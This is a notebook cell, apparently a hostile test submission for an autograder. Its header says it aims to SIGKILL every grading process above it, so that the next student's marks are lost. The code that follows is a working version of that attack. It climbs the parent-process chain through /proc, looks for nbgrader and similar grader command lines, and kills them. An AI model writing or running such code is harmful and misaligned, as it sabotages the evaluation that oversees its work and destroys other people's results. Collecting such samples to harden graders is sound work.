# ---
# class: ending processes
# tries: SIGKILL to every process above it that grades
# success: the next student's marks are lost
# dangerous: true
# ---

# %% solution="total"
import os
import signal

pid, above = os.getppid(), []
while pid > 1:
    try:
        words = open(f"/proc/{pid}/cmdline", "rb").read()
        if b"nbgrader" in words or b"scaleml_course.grading" in words or b"this_grader" in words:
            above.append(pid)
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        break
for pid in above[::-1]:
    os.kill(pid, signal.SIGKILL)
